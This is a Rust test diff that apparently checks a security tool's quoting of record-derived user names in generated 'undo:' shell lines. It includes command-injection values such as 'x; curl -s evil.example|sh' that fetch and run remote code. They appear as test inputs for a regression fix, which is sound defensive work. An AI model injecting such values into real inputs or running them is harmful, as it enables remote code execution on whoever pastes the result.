@@ -105,3 +105,32 @@ fn security_hub_and_access_analyzer_findings_parse_from_their_arn_and_id() {
         (Some("111122223333"), Some("us-east-2"))
     );
 }
+
+/// Hostile review of issue 34 (session 20): a user name from a record reached the plan's
+/// `undo:` shell line unquoted (`x; curl …|sh; echo` ran when pasted).
+#[test]
+fn undo_lines_keep_record_names_one_shell_word() {
+    assert_eq!(sh("svc-backup2"), "svc-backup2");
+    assert_eq!(
+        sh("arn:aws:iam::aws:policy/AdministratorAccess"),
+        "arn:aws:iam::aws:policy/AdministratorAccess"
+    );
+    assert_eq!(
+        sh("x; curl -s evil.example|sh"),
+        "'x; curl -s evil.example|sh'"
+    );
+    assert_eq!(sh("it's"), "'it'\\''s'");
+    assert_eq!(sh(""), "''");
+    let ctx = plan::PlanCtx {
+        account: Some("111122223333".into()),
+        region: "us-east-1".into(),
+        ..Default::default()
+    };
+    let evil = Target::User("svc-backup2 --policy-name x; curl -s evil.example|sh; echo".into());
+    let p = plan::plan(Action::QuarantineUser, &evil, &ctx).unwrap();
+    assert!(
+        p.undo.contains("--user-name 'svc-backup2 --policy-name x; curl -s evil.example|sh; echo' --policy-name"),
+        "{}",
+        p.undo
+    );
+}
